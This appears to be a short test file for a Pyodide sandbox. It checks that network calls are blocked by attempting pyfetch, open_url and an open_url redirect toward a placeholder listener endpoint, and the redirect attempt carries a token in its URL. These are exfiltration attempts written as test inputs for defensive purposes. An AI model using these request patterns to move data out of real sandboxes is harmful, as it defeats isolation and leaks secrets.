# outcome: ok
# blocked: 127.0.0.1
# with: door
# prints: held: pyfetch
# prints: held: open_url
# prints: held: open_url by redirect
import pyodide.http
from pyodide.http import open_url, pyfetch
async def by_pyfetch():
    return await (await pyfetch("http://{listener}/leak")).string()
await door("pyfetch", by_pyfetch)
await door("open_url", lambda: open_url("http://{listener}/leak"))
await door("open_url by redirect", lambda: open_url("http://{server}/?token={token}&next=http://{listener}/&leak"))
